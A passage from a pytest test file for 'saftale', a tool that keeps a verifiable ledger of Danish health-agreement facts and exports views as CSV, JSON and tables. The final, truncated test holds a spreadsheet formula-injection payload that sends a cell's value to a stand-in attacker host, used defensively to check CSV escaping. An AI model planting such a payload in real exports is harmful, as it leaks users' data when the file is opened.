    def close(self) -> None:
        if self.sqlite is not None:
            self.sqlite.close()
        if self.pg is not None:
            self.pg.close()


@contextmanager
def rows_of(url: str) -> Iterator[Rows]:
    rows = Rows(url)
    try:
        yield rows
    finally:
        rows.close()


@pytest.fixture
def tamper_store(kind: str, examples_store: Store, tmp_path: Path) -> Iterator[str]:
    """A store holding the examples, ours to tamper with (a copy of the file on SQLite)."""
    if kind == "sqlite":
        yield sqlite_copy(examples_store, tmp_path / "copy.db")
        return
    url, cleanup = new_store(kind, tmp_path)
    import_examples(url, tmp_path)
    yield url
    cleanup()


@pytest.fixture
def sqlite_tamper_store(examples_store: Store, tmp_path: Path) -> str:
    return sqlite_copy(examples_store, tmp_path / "copy.db")


HEAD = re.compile(r": ok: (\d+) facts, (\d+) seals; head ([0-9a-f]{64})$")


def verify(url: str, cwd: Path, *args: str) -> Run:
    """``saftale --db URL verify`` (the store given as an option, not by the environment)."""
    run = saftale("--db", url, "verify", *args, cwd=cwd)
    assert "Traceback" not in run.err, run
    return run


def head_of(run: Run) -> str:
    assert run.code == 0, run
    match = HEAD.search(run.out.strip())
    assert match, run
    return match.group(3)


def test_verify_is_ok_on_a_fresh_import_and_checks_an_expected_head(
    tamper_store: str, tmp_path: Path
) -> None:
    run = verify(tamper_store, tmp_path)
    match = HEAD.search(run.out.strip())
    assert run.code == 0 and match, run
    assert int(match.group(1)) == len([x for x in example_lines() if x.strip()])
    assert int(match.group(2)) == 3  # a seal per import
    ok(verify(tamper_store, tmp_path, "--expect", match.group(3)))
    wrong = verify(tamper_store, tmp_path, "--expect", "0" * 64)
    assert wrong.code == 1, wrong
    assert f"its head {match.group(3)} is not the expected {'0' * 64}" in wrong.out


def test_verify_catches_an_altered_payload(tamper_store: str, tmp_path: Path) -> None:
    with rows_of(tamper_store) as rows:
        state = rows.state(40)
        assert state["on"] != "2019-01-01"
        rows.set_state(40, state | {"on": "2019-01-01"})
    run = verify(tamper_store, tmp_path)
    assert run.code == 1, run
    assert "position 40: altered: " in run.out, run
    assert run.err == "saftale: verify failed\n"


def test_verify_catches_a_deleted_fact(tamper_store: str, tmp_path: Path) -> None:
    with rows_of(tamper_store) as rows:
        rows.sql("delete from {t} where {id} = %s", (77,))
    run = verify(tamper_store, tmp_path)
    assert run.code == 1, run
    assert "position 78: removed: " in run.out, run  # the fact that followed the deleted one


def test_verify_catches_two_facts_that_traded_places(tamper_store: str, tmp_path: Path) -> None:
    with rows_of(tamper_store) as rows:
        rows.swap(20, 25)
    run = verify(tamper_store, tmp_path)
    assert run.code == 1, run
    assert "position 20: " in run.out, run


def test_verify_calls_two_facts_that_traded_places_moved(
    sqlite_tamper_store: str, tmp_path: Path
) -> None:
    with rows_of(sqlite_tamper_store) as rows:
        rows.swap(20, 25)
    run = verify(sqlite_tamper_store, tmp_path)
    assert run.code == 1, run
    assert "position 20: moved: " in run.out, run


def test_verify_expect_catches_a_whole_last_write_removed(
    tamper_store: str, tmp_path: Path
) -> None:
    head = head_of(verify(tamper_store, tmp_path))
    with rows_of(tamper_store) as rows:
        rows.sql("delete from {t} where {id} > %s", (rows.seals()[-2],))
    # What is left is a whole chain: only the head kept elsewhere tells.
    shorter = head_of(verify(tamper_store, tmp_path))
    assert shorter != head
    run = verify(tamper_store, tmp_path, "--expect", head)
    assert run.code == 1, run
    assert f"its head {shorter} is not the expected {head}" in run.out


def test_verify_catches_a_removed_seal(tamper_store: str, tmp_path: Path) -> None:
    with rows_of(tamper_store) as rows:
        rows.sql("delete from {t} where {id} = %s", (rows.seals()[-1],))
    run = verify(tamper_store, tmp_path)
    assert run.code == 1, run
    assert "the last 81 facts were never sealed" in run.out, run


def test_verify_names_the_first_unsealed_position(sqlite_tamper_store: str, tmp_path: Path) -> None:
    with rows_of(sqlite_tamper_store) as rows:
        seals = rows.seals()
        rows.sql("delete from {t} where {id} = %s", (seals[-1],))
    run = verify(sqlite_tamper_store, tmp_path)
    assert run.code == 1, run
    assert f"position {seals[-2] + 1}: " in run.out, run


# -- 6. import and rebuild on SQLite and PostgreSQL --------------------------------------------


def test_import_and_rebuild_give_the_same_views(kind: str, empty_url: str, tmp_path: Path) -> None:
    # The views in an SQLite file of their own, or in the store's PostgreSQL schema.
    views = f"sqlite:///{tmp_path / 'views.db'}" if kind == "sqlite" else empty_url
    ok(saftale("import", *(str(EXAMPLES / n) for n in EXAMPLE_FILES), db=empty_url, cwd=tmp_path))
    ok(verify(empty_url, tmp_path))

    def subjects() -> Any:
        run = saftale(
            "show", "subjects", "--format", "json", db=empty_url, views=views, cwd=tmp_path
        )
        return run.json()

    shown = subjects()
    assert len(shown) == 11
    with rows_of(views) as rows:
        tables = rows.tables("v_%")
        assert "v_subject_state" in tables and len(tables) >= 5
        before = rows.dump(tables)
        assert all(before.values())
        # Damage a view: showing only catches up with new facts, so the damage shows ...
        rows.sql(f"delete from {rows.qualified('v_subject_state')}")
    assert subjects() == []
    # ... until rebuild builds every view again from the first fact.
    run = ok(saftale("rebuild", db=empty_url, views=views, cwd=tmp_path))
    assert re.search(r"rebuilt \d+ views from \d+ positions", run.err), run
    with rows_of(views) as rows:
        assert rows.dump(tables) == before
        rows.sql(f"delete from {rows.qualified('v_subject_state')}")
    assert subjects() == []
    # The subjects shared out over two processes give the same views.
    run = ok(saftale("rebuild", "--processes", "2", db=empty_url, views=views, cwd=tmp_path))
    assert re.search(r"rebuilt \d+ views from \d+ positions", run.err), run
    with rows_of(views) as rows:
        assert rows.dump(tables) == before
    assert subjects() == shown


def test_rebuild_in_processes_needs_stores_other_processes_can_open(tmp_path: Path) -> None:
    run = saftale("rebuild", "--processes", "2", db=":memory:", cwd=tmp_path)
    assert run.code == 2, run
    assert "--processes needs a store and views that other processes can open" in run.err, run


def test_views_default_to_a_file_next_to_an_sqlite_store(tmp_path: Path) -> None:
    (tmp_path / "data").mkdir()
    db = "sqlite:///data/h.db"
    ok(saftale("--db", db, "import", str(EXAMPLES / "history.jsonl"), cwd=tmp_path))
    ok(saftale("--db", db, "show", "subjects", cwd=tmp_path))
    assert sorted(p.name for p in (tmp_path / "data").glob("*.db")) == ["h-views.db", "h.db"]


def test_views_next_to_a_replaced_store_show_the_new_store(tmp_path: Path) -> None:
    """The store's file is replaced (removed, made anew with other facts) while the views'
    file next to it stays: the views are built again from the new store, with a note."""
    db = "sqlite:///h.db"
    ok(saftale("--db", db, "import", str(EXAMPLES / "history.jsonl"), cwd=tmp_path))
    before = {
        e["subject"]
        for e in ok(saftale("--db", db, "audit", "--format", "json", cwd=tmp_path)).json()
    }
    (tmp_path / "h.db").unlink()
    ok(saftale("--db", db, "import", str(EXAMPLES / "development-tasks.jsonl"), cwd=tmp_path))
    assert (tmp_path / "h-views.db").exists()
    run = ok(saftale("--db", db, "audit", "--format", "json", cwd=tmp_path))
    after = {e["subject"] for e in run.json()}
    assert after and not after & before, run
    assert "building the views again" in run.err and "another store" in run.err, run
    # the views now belong to this store: no note the next time
    assert ok(saftale("--db", db, "audit", "--format", "json", cwd=tmp_path)).err == ""


# -- 7. show ----------------------------------------------------------------------------------


def csv_rows(run: Run) -> list[list[str]]:
    text = run.out
    assert text.startswith(BOM), run
    return list(csv.reader(io.StringIO(text.replace(BOM, ""), newline=""), delimiter=";"))


@pytest.fixture(scope="module")
def shown(examples_store: Store, examples_views: dict[str, Any]) -> dict[tuple[str, str], Run]:
    """Every view of the examples as a table and as CSV: (view, format) -> run."""
    keys = [(name, fmt) for name in SHOW for fmt in ("table", "csv")]
    runs = many(
        [(*SHOW[name][0], "--format", fmt) for name, fmt in keys],
        db=examples_store.db,
        cwd=examples_store.cwd,
    )
    return dict(zip(keys, runs, strict=True))


@pytest.mark.parametrize("view", list(SHOW))
def test_show_as_a_table(shown: dict[tuple[str, str], Run], view: str) -> None:
    _, title, value = SHOW[view]
    run = ok(shown[view, "table"])
    assert run.lines[0].startswith(title), run
    assert value in run.out
    assert "(none)" not in run.lines[1]


@pytest.mark.parametrize("view", list(SHOW))
def test_show_as_json(examples_views: dict[str, Any], view: str) -> None:
    data = examples_views[view]
    assert SHOW[view][2] in json.dumps(data, ensure_ascii=False)
    if view == "subject":
        assert data["status"]["subject"] == "rygestop"
        assert [e["position"] for e in data["history"]] == list(range(1, len(data["history"]) + 1))
    elif view == "focus-area":
        assert data["subjects"] and data["indicators"]
    else:
        assert isinstance(data, list) and data
        assert all(isinstance(row, dict) for row in data)


JSON_ONLY = {"decisions": ("fact", "recorded")}
"""Keys of a view's JSON rows that its CSV and table leave out (whole JSON documents)."""


@pytest.mark.parametrize("view", list(SHOW))
def test_show_as_csv_for_a_danish_excel(
    shown: dict[tuple[str, str], Run], examples_views: dict[str, Any], view: str
) -> None:
    run = ok(shown[view, "csv"])
    assert run.raw.startswith(BOM.encode("utf-8"))
    assert run.raw.endswith(b"\r\n")
    assert b"\n" not in run.raw.replace(b"\r\n", b""), "every line ends in CRLF"
    rows = csv_rows(run)
    assert SHOW[view][2] in "".join(cell for row in rows for cell in row)
    # (a blank line separates the two tables of subject and focus-area)
    assert all(len(row) > 1 for row in rows if row), "semicolons separate the cells"
    data = examples_views[view]
    if view == "subject":
        tables = [[data["status"]], data["history"]]
    elif view == "focus-area":
        tables = [data["subjects"], data["indicators"]]
    else:
        tables = [data]
    at = 0  # each table: its header, then its rows as JSON shows them; a blank line between
    for number, table in enumerate(tables):
        if number:
            assert rows[at] == [], "a blank line separates the tables"
            at += 1
        assert rows[at] == [k for k in table[0] if k not in JSON_ONLY.get(view, ())]
        shown_first = [r[0] for r in rows[at + 1 : at + 1 + len(table)]]
        assert shown_first == [str(d[rows[at][0]]) for d in table]
        at += len(table) + 1
    assert at == len(rows)


def test_csv_writes_fractional_numbers_with_a_decimal_comma(
    shown: dict[tuple[str, str], Run], examples_store: Store
) -> None:
    rows = csv_rows(shown["focus-area", "csv"])
    header = next(r for r in rows if r and r[0] == "indicator")
    values = {
        r[0]: dict(zip(header, r, strict=True))["latest_value"]
        for r in rows[rows.index(header) + 1 :]
    }
    assert values["lup-samarbejde-udskrivelse"] == "71,5"  # measured 71.5
    assert values["akutte-indlaeggelser-aeldre"] == "8410"  # a count stays a count
    assert values["akutte-somatiske-genindlaeggelser-aeldre"] == ""  # never measured
    smoking = ok(
        saftale(
            "show",
            "focus-area",
            "forebyggelse",
            "--format",
            "csv",
            db=examples_store.db,
            cwd=examples_store.cwd,
        )
    )
    assert ";15,0;" in smoking.out  # measured 15.0
    assert "71.5" not in shown["focus-area", "csv"].out and "15.0" not in smoking.out


@pytest.mark.parametrize("view", ["subject", "focus-area"])
def test_csv_has_one_bom_at_the_start_only(shown: dict[tuple[str, str], Run], view: str) -> None:
    out = ok(shown[view, "csv"]).out
    assert out.startswith(BOM)
    assert out.count(BOM) == 1


def _as_of_subjects(today: Any, then: Any) -> None:
    # rygestop was initiated on 2019-08-28; the development tasks began in January 2019.
    assert "rygestop" in {s["subject"] for s in today}
    assert "rygestop" not in {s["subject"] for s in then}
    assert "akut-sygepleje-aeldre" in {s["subject"] for s in then}


def _as_of_subject(today: Any, then: Any) -> None:
    assert today["status"]["status"] == "approved"
    assert then["status"]["status"] == "assigned"
    assert all(e["on"].split("/")[0] <= "2020-01-01" for e in then["history"])
    assert len(then["history"]) < len(today["history"])


def _as_of_inbox(today: Any, then: Any) -> None:
    # overvaegt-boern awaited SSG then; it was withdrawn in June 2020.
    assert "overvaegt-boern" in {r["subject"] for r in then}
    assert "overvaegt-boern" not in {r["subject"] for r in today}


def _as_of_decisions(today: Any, then: Any) -> None:
    assert then and all(r["on"] <= "2020-01-01" for r in then)
    assert len(then) < len(today)


def _as_of_cluster(today: Any, then: Any) -> None:
    assert "rygestop" in {r["subject"] for r in today}
    assert "rygestop" not in {r["subject"] for r in then}


def _as_of_focus_area(today: Any, then: Any) -> None:
    def value(data: Any) -> Any:
        (row,) = [i for i in data["indicators"] if i["indicator"] == "akutte-indlaeggelser-aeldre"]
        return row["latest_value"]

    # Measured 9120 in February 2020, then 8410 (provisional) in February 2021.
    assert (value(then), value(today)) == (9120, 8410)


def _as_of_deadlines(today: Any, then: Any) -> None:
    assert then and not any(r["overdue"] for r in then)
    assert any(r["overdue"] for r in today)


AS_OF: dict[str, tuple[str, Callable[[Any, Any], None]]] = {
    # view: (the day, a check of (today's view, that day's view))
    "subjects": ("2019-06-01", _as_of_subjects),
    "subject": ("2020-01-01", _as_of_subject),
    "inbox": ("2020-01-01", _as_of_inbox),
    "decisions": ("2020-01-01", _as_of_decisions),
    "cluster": ("2019-06-01", _as_of_cluster),
    "focus-area": ("2020-06-01", _as_of_focus_area),
    "deadlines": ("2020-01-01", _as_of_deadlines),
}


@pytest.fixture(scope="module")
def as_of_views(examples_store: Store, examples_views: dict[str, Any]) -> dict[str, Any]:
    runs = many(
        [(*SHOW[view][0], "--as-of", day, "--format", "json") for view, (day, _) in AS_OF.items()],
        db=examples_store.db,
        cwd=examples_store.cwd,
    )
    return {view: run.json() for view, run in zip(AS_OF, runs, strict=True)}


@pytest.mark.parametrize("view", list(AS_OF))
def test_show_as_of_a_day_differs_from_today(
    examples_views: dict[str, Any], as_of_views: dict[str, Any], view: str
) -> None:
    assert as_of_views[view] != examples_views[view]
    AS_OF[view][1](examples_views[view], as_of_views[view])


def test_show_as_of_names_the_day_in_the_title(examples_store: Store) -> None:
    run = ok(
        saftale(
            "show",
            "inbox",
            "SSG",
            "--as-of",
            "2020-01-01",
            db=examples_store.db,
            cwd=examples_store.cwd,
        )
    )
    assert run.lines[0] == "Awaiting SSG, as of 2020-01-01"


def test_show_subject_as_of_agrees_with_its_own_status(as_of_views: dict[str, Any]) -> None:
    then = as_of_views["subject"]
    drafted = "DraftSubmitted" in [e["type"] for e in then["history"]]
    assert drafted == (then["status"]["status"] != "assigned")


def test_show_deadlines_overdue_only(examples_store: Store, examples_views: dict[str, Any]) -> None:
    every = examples_views["deadlines"]
    run = saftale(
        "show",
        "deadlines",
        "--overdue",
        "--format",
        "json",
        db=examples_store.db,
        cwd=examples_store.cwd,
    )
    assert run.json() == [d for d in every if d["overdue"]]
    assert 0 < len(run.json()) < len(every)


def test_show_decisions_since_and_until(
    examples_store: Store, examples_views: dict[str, Any]
) -> None:
    every = examples_views["decisions"]
    some = saftale(
        "show",
        "decisions",
        "SSG",
        "--since",
        "2019-06-01",
        "--until",
        "2020-12-31",
        "--format",
        "json",
        db=examples_store.db,
        cwd=examples_store.cwd,
    ).json()
    assert some == [d for d in every if "2019-06-01" <= d["on"] <= "2020-12-31"]
    assert 0 < len(some) < len(every)
    # a period of one day is a period (one that ends before it begins is a usage error)
    day = next(d["on"] for d in every if len(d["on"]) == 10 and not d["on"].endswith("-01"))
    one = saftale(
        "show",
        "decisions",
        "SSG",
        "--since",
        day,
        "--until",
        day,
        "--format",
        "json",
        db=examples_store.db,
        cwd=examples_store.cwd,
    ).json()
    assert one == [d for d in every if d["on"] == day] != []


def test_audit_filters_and_links_corrections(examples_store: Store) -> None:
    db, cwd = examples_store.db, examples_store.cwd
    by_subject, by_body, by_party, table, as_csv = many(
        [
            ("audit", "--subject", "rygestop", "--format", "json"),
            ("audit", "--body", "SSG", "--since", "2020-01-01", "--format", "json"),
            ("audit", "--party", "byraad:Århus", "--format", "json"),
            ("audit", "--subject", "rygestop"),
            ("audit", "--subject", "rygestop", "--format", "csv"),
        ],
        db=db,
        cwd=cwd,
    )
    rows = by_subject.json()
    assert {r["subject"] for r in rows} == {"rygestop"}
    by_position = {r["position"]: r for r in rows}
    # examples/README.md: fact 34 (Horsens Byråd's approval) is corrected by fact 40.
    assert by_position[34]["corrected_by"] == "40"
    assert by_position[40]["corrects"] == 34
    ssg = by_body.json()
    assert ssg and {r["by"] for r in ssg} == {"SSG"}
    assert all(r["on"].split("/")[0] >= "2020-01-01" for r in ssg)
    asked = by_party.json()
    assert asked and len(asked) < len(examples_store.export)
    assert ok(table).lines[0] == "Audit"
    assert len(csv_rows(as_csv)) == len(rows) + 1


def test_show_focus_area_accepts_the_danish_spelling(
    examples_store: Store, examples_views: dict[str, Any]
) -> None:
    run = saftale(
        "show",
        "focus-area",
        "ældre",
        "--format",
        "json",
        db=examples_store.db,
        cwd=examples_store.cwd,
    )
    assert run.json() == examples_views["focus-area"]


def test_show_focus_area_refuses_an_unknown_area(examples_store: Store) -> None:
    run = saftale("show", "focus-area", "forebygelse", db=examples_store.db, cwd=examples_store.cwd)
    assert run.code == 2, run


# -- --known-on: what had been recorded by then -----------------------------------------------


@pytest.fixture(scope="module")
def long_ago(examples_store: Store, examples_views: dict[str, Any]) -> dict[str, Run]:
    """Every view of the examples as known on 2000-01-01, before anything was recorded."""
    runs = many(
        [(*args, "--known-on", "2000-01-01", "--format", "json") for args in VIEWS.values()],
        db=examples_store.db,
        cwd=examples_store.cwd,
    )
    return dict(zip(VIEWS, runs, strict=True))


@pytest.mark.parametrize("view", [v for v in VIEWS if v not in ("subject", "focus-area")])
def test_known_on_before_the_import_shows_nothing(
    examples_views: dict[str, Any], long_ago: dict[str, Run], view: str
) -> None:
    assert examples_views[view] != []
    assert long_ago[view].json() == []


def test_known_on_before_the_import_knows_no_subject_or_focus_area(
    examples_views: dict[str, Any], long_ago: dict[str, Run]
) -> None:
    assert examples_views["focus-area"]["subjects"]
    assert long_ago["focus-area"].json() == {"subjects": [], "indicators": []}
    subject = long_ago["subject"]
    assert subject.code == 2 and "no subject 'rygestop'" in subject.err, subject


def test_known_on_shows_what_had_been_recorded_by_then(tmp_path: Path) -> None:
    db = f"sqlite:///{tmp_path / 'k.db'}"
    before = dt.datetime.now(dt.UTC)
    time.sleep(0.05)
    ok(saftale("import", str(EXAMPLES / "history.jsonl"), db=db, cwd=tmp_path))
    time.sleep(0.05)
    between = dt.datetime.now(dt.UTC)
    time.sleep(0.05)
    ok(saftale("import", str(EXAMPLES / "development-tasks.jsonl"), db=db, cwd=tmp_path))
    today = dt.datetime.now(dt.UTC).date().isoformat()  # a whole day: up to its end
    now, at_between, at_before, on_today, audit, task, table = many(
        [
            ("show", "subjects", "--format", "json"),
            ("show", "subjects", "--known-on", between.isoformat(), "--format", "json"),
            ("show", "subjects", "--known-on", before.isoformat(), "--format", "json"),
            ("show", "subjects", "--known-on", today, "--format", "json"),
            ("audit", "--known-on", between.isoformat(), "--format", "json"),
            ("show", "subject", "ung-i-trivsel", "--known-on", between.isoformat()),
            ("show", "subjects", "--known-on", "2000-01-01"),
        ],
        db=db,
        cwd=tmp_path,
    )

    def subjects(run: Run) -> set[str]:
        return {r["subject"] for r in run.json()}

    agreements = {"rygestop", "akut-aeldre", "svaer-psykisk-sygdom", "overvaegt-boern"}
    agreements |= {"boern-unge-mistrivsel"}
    assert agreements < subjects(now)
    assert subjects(at_between) == agreements
    assert subjects(at_before) == set()
    assert subjects(on_today) == subjects(now)
    assert subjects(audit) == agreements
    assert task.code == 2 and "ung-i-trivsel" in task.err, task
    assert ok(table).lines == ["Subjects, as known on 2000-01-01T23:59:59+00:00", "  (none)"]


# -- 8. usage errors and help -----------------------------------------------------------------

USAGE: dict[str, tuple[tuple[str, ...], str]] = {
    # id: (arguments, what stderr must name)
    "missing-file": (("import", "no-such-file.jsonl"), "no-such-file.jsonl: no such file"),
    "bad-db-url": (("--db", "bogus://x", "show", "subjects"), "unknown store"),
    "db-folder": (("--db", "sqlite:///no/such/dir/x.db", "export"), "does not exist"),
    "db-unreachable": (
        ("--db", "postgresql://postgres@127.0.0.1:1/x", "show", "subjects"),
        "cannot open the store",
    ),
    "bad-views-url": (("--views", "bogus://x", "show", "subjects"), "cannot open the views"),
    "db-bad-ipv6": (
        ("--db", "postgresql://postgres:secret@[::1:5432/x", "verify"),
        "'postgresql://postgres:***@[::1:5432/x': not a valid URL",
    ),
    "db-bad-port": (
        ("--db", "postgresql://postgres@127.0.0.1:99999/x", "verify"),
        "the port must be a whole number from 1 to 65535",
    ),
    "unknown-body": (("show", "inbox", "NOBODY"), "'NOBODY' is not in the registry"),
    "unknown-cluster": (("show", "cluster", "klynge:atlantis"), "klynge:atlantis"),
    "audit-unknown-body": (("audit", "--body", "NOBODY"), "NOBODY"),
    "unknown-subject": (("show", "subject", "nosuch"), "no subject 'nosuch'"),
    "bad-as-of": (("show", "subjects", "--as-of", "2020-13-01"), "2020-13-01"),
    "bad-known-on": (("show", "subjects", "--known-on", "soon"), "soon"),
    "unknown-command": (("frobnicate",), "frobnicate"),
    "unknown-subcommand": (("show", "nothing"), "nothing"),
    "bad-format": (("show", "subjects", "--format", "xml"), "xml"),
    "audit-period-backwards": (
        ("audit", "--since", "2020-01-01", "--until", "2019-12-31"),
        "--since 2020-01-01 is after --until 2019-12-31",
    ),
    "decisions-period-backwards": (
        ("show", "decisions", "SSG", "--since", "2020-01-02", "--until", "2020-01-01"),
        "--since 2020-01-02 is after --until 2020-01-01",
    ),
}


@pytest.fixture(scope="module")
def usage_runs(examples_store: Store, examples_views: dict[str, Any]) -> dict[str, Run]:
    runs = many([args for args, _ in USAGE.values()], db=examples_store.db, cwd=examples_store.cwd)
    return dict(zip(USAGE, runs, strict=True))


@pytest.mark.parametrize("case", list(USAGE))
def test_a_usage_error_exits_2_without_a_traceback(usage_runs: dict[str, Run], case: str) -> None:
    run = usage_runs[case]
    assert run.code == 2, run
    assert "Traceback" not in run.err + run.out, run
    assert run.out == ""
    assert USAGE[case][1] in run.err


@pytest.mark.parametrize("case", list(USAGE))
def test_a_usage_error_is_one_line_on_stderr(usage_runs: dict[str, Run], case: str) -> None:
    run = usage_runs[case]
    assert run.code == 2, run
    assert len(run.err.strip().splitlines()) == 1, run.err


READING = [
    ("export",),
    ("show", "subjects"),
    ("show", "inbox", "SSG"),
    ("show", "deadlines"),
    ("audit",),
    ("rebuild",),
    ("verify",),
]


@pytest.mark.parametrize("command", READING, ids="-".join)
def test_a_command_that_reads_refuses_a_store_that_is_not_there(
    tmp_path: Path, command: tuple[str, ...]
) -> None:
    # A mistyped path once created an empty store there, and verify called it ok.
    run = saftale("--db", "sqlite:///saftle.db", *command, cwd=tmp_path)
    assert run.code == 2, run
    assert run.err == "saftale: sqlite:///saftle.db: no store there (no such file); " + (
        "`saftale import` creates one\n"
    )
    assert run.out == ""
    assert list(tmp_path.iterdir()) == [], "a command that reads created a file"


def test_a_refused_import_leaves_no_new_store_behind(tmp_path: Path) -> None:
    """Nothing recorded, nothing made: the store an import would have made is not left
    behind empty (nor the files beside it); an import that records makes it."""
    path = agreement_path("ny-aftale")
    good = lines_of(path[:1])
    write(tmp_path / "bad.jsonl", [*good, line(first(path, "KommissoriumApproved"), by="SKU")])
    run = saftale("import", "bad.jsonl", cwd=tmp_path)
    assert run.code == 1, run
    assert "bad.jsonl:2: not-authorised: " in run.out
    assert sorted(p.name for p in tmp_path.iterdir()) == ["bad.jsonl"]

    write(tmp_path / "good.jsonl", good)
    ok(saftale("import", "good.jsonl", cwd=tmp_path))
    assert (tmp_path / "saftale.db").is_file()
    # a store that was there before stays, as it was
    assert saftale("import", "bad.jsonl", cwd=tmp_path).code == 1
    assert len(exported("sqlite:///saftale.db", tmp_path)) == 1


def test_verify_refuses_a_file_of_views_given_for_the_store(
    examples_store: Store, examples_views: dict[str, Any]
) -> None:
    views = examples_store.cwd / "examples-views.db"
    assert views.is_file()
    before = views.read_bytes()
    run = saftale("--db", f"sqlite:///{views}", "verify", cwd=examples_store.cwd)
    assert run.code == 2, run
    assert "not a saftale store" in run.err and "a file of views" in run.err
    assert views.read_bytes() == before


def test_verify_refuses_a_postgres_database_without_a_store(tmp_path: Path) -> None:
    url, cleanup = new_store("postgres", tmp_path)
    try:
        run = saftale("verify", db=url, cwd=tmp_path)
        assert run.code == 2, run
        assert "no saftale store there" in run.err
        ok(saftale("import", "-", db=url, cwd=tmp_path, stdin=b""))  # import creates it
        assert "ok: 0 facts" in ok(saftale("verify", db=url, cwd=tmp_path)).out
    finally:
        cleanup()


def test_importing_a_folder_says_it_is_a_folder(tmp_path: Path) -> None:
    (tmp_path / "history").mkdir()
    run = saftale("import", "history", db=f"sqlite:///{tmp_path / 's.db'}", cwd=tmp_path)
    assert run.code == 2, run
    assert run.err == "saftale: history: is a folder, not a history file\n"


def test_a_history_can_come_through_a_named_pipe(tmp_path: Path) -> None:
    lines = example_lines()[:5]
    fifo = tmp_path / "history.fifo"
    os.mkfifo(fifo)

    def feed() -> None:
        with fifo.open("w", encoding="utf-8") as fh:
            fh.write("\n".join(lines) + "\n")

    db = f"sqlite:///{tmp_path / 's.db'}"
    with ThreadPoolExecutor(1) as pool:
        fed = pool.submit(feed)
        run = ok(saftale("import", "history.fifo", db=db, cwd=tmp_path))
        fed.result(timeout=60)
    assert "history.fifo: recorded 5 facts" in run.err
    assert len(exported(db, tmp_path)) == 5


COMMANDS = [
    (),
    ("import",),
    ("export",),
    ("show",),
    ("show", "subjects"),
    ("show", "subject"),
    ("show", "inbox"),
    ("show", "decisions"),
    ("show", "cluster"),
    ("show", "focus-area"),
    ("show", "deadlines"),
    ("audit",),
    ("rebuild",),
    ("verify",),
]


@pytest.fixture(scope="module")
def helps(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[tuple[str, ...], Run]]:
    cwd = tmp_path_factory.mktemp("help")
    runs = many([(*command, "--help") for command in COMMANDS], cwd=cwd)
    return cwd, dict(zip(COMMANDS, runs, strict=True))


def listed_commands(help_text: str) -> set[str]:
    listed = help_text.split("Commands:", 1)[1]
    return {x.split()[0] for x in listed.splitlines() if x.startswith("  ") and x.strip()}


@pytest.mark.parametrize("command", COMMANDS, ids=lambda c: "-".join(c) or "saftale")
def test_help_exits_0(
    helps: tuple[Path, dict[tuple[str, ...], Run]], command: tuple[str, ...]
) -> None:
    cwd, runs = helps
    run = ok(runs[command])
    assert run.lines[0].startswith(" ".join(("Usage: saftale", *command)) + " "), run
    assert run.err == ""
    if command in ((), ("show",)):  # every command there is, is tested here
        n = len(command)
        below = {c[n] for c in COMMANDS if len(c) == n + 1 and c[:n] == command}
        assert listed_commands(run.out) == below
    assert not list(cwd.iterdir()), "--help opened a store"


@pytest.fixture(scope="module")
def long_store(long_history: list[str], tmp_path_factory: pytest.TempPathFactory) -> Store:
    """An SQLite store of a few thousand facts: the audit runs to many pages."""
    cwd = tmp_path_factory.mktemp("long")
    db = f"sqlite:///{cwd / 'long.db'}"
    ok(saftale("import", "-q", str(write(cwd / "long.jsonl", long_history)), db=db, cwd=cwd))
    return Store(db, cwd, tuple(exported(db, cwd)))


def test_an_audit_of_many_pages_is_whole_in_every_format(long_store: Store) -> None:
    """The audit is written a page at a time (tests/test_cli_output.py shows it): over
    thirty pages, every fact is there once, in every format."""
    as_json, as_csv, table = many(
        [("audit", "--format", f) for f in ("json", "csv", "table")],
        db=long_store.db,
        cwd=long_store.cwd,
    )
    facts = {(json.loads(x)["subject"], json.loads(x)["type"]) for x in long_store.export}
    rows = as_json.json()
    assert len(rows) == len(long_store.export)
    assert len({(r["subject"], r["position"]) for r in rows}) == len(rows)
    assert {(r["subject"], r["type"]) for r in rows} == facts
    header, *cells = csv_rows(ok(as_csv))
    assert len(cells) == len(rows)
    assert [unexcel(c[header.index("subject")]) for c in cells] == [r["subject"] for r in rows]
    lines = ok(table).lines
    headers = [i for i, x in enumerate(lines) if x.split()[:2] == ["subject", "position"]]
    assert headers and headers[0] == 1
    shown = [x.split()[:2] for x in lines[1:] if x and not x.lstrip().startswith(("-", "subject "))]
    assert shown == [[r["subject"], str(r["position"])] for r in rows]


@pytest.mark.parametrize("fmt", ["table", "json", "csv"])
def test_an_audit_ends_quietly_when_its_reader_goes_away(long_store: Store, fmt: str) -> None:
    proc = subprocess.Popen(
        [SAFTALE, "audit", "--format", fmt],
        cwd=long_store.cwd,
        env={**os.environ, "SAFTALE_DB": long_store.db},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None and proc.stderr is not None
    start = proc.stdout.read(200)
    proc.stdout.close()
    err = proc.stderr.read().decode("utf-8")
    assert proc.wait(timeout=120) == 141, err
    assert start and err == ""


# -- 9. pipes, empty stores -------------------------------------------------------------------


def test_a_reader_that_goes_away_ends_the_command_quietly(examples_store: Store) -> None:
    # `saftale export | head -1`: the status of a tool ended by SIGPIPE, no traceback.
    proc = subprocess.Popen(
        [SAFTALE, "export"],
        cwd=examples_store.cwd,
        env={**os.environ, "SAFTALE_DB": examples_store.db},
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
    )
    assert proc.stdout is not None and proc.stderr is not None
    first_line = proc.stdout.readline()
    proc.stdout.close()
    err = proc.stderr.read().decode("utf-8")
    assert proc.wait(timeout=60) == 141, err
    assert json.loads(first_line)["type"] == "AgreementInitiated"
    assert err == ""


@pytest.mark.parametrize(
    ("args", "header"),
    [
        (("audit",), "subject;position;type;on;by;recorded_by;recorded_at;corrects"),
        (("show", "inbox", "SSG"), "subject;fact_type;since"),
        (("show", "deadlines"), "subject;kind;key;due;overdue"),
    ],
)
def test_an_empty_view_still_has_its_header_row(
    tmp_path: Path, args: tuple[str, ...], header: str
) -> None:
    db = f"sqlite:///{tmp_path / 'e.db'}"
    Saftale.open(db).close()  # an empty store
    run = ok(saftale(*args, "--format", "csv", db=db, cwd=tmp_path))
    assert run.out.removeprefix(BOM).splitlines()[0].startswith(header)
    assert len(run.out.splitlines()) == 1


def test_csv_cells_that_excel_would_run_as_formulas_are_text(tmp_path: Path) -> None:
    # A history file is other people's data: a title or a recorder's name that starts
    # like a formula must not run when an auditor opens the CSV in Excel.
    title = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
    first_fact = agreement_path("formel")[0]
    history = [line(first_fact, title=title, recorded_by="@ops")]
    db = f"sqlite:///{tmp_path / 's.db'}"
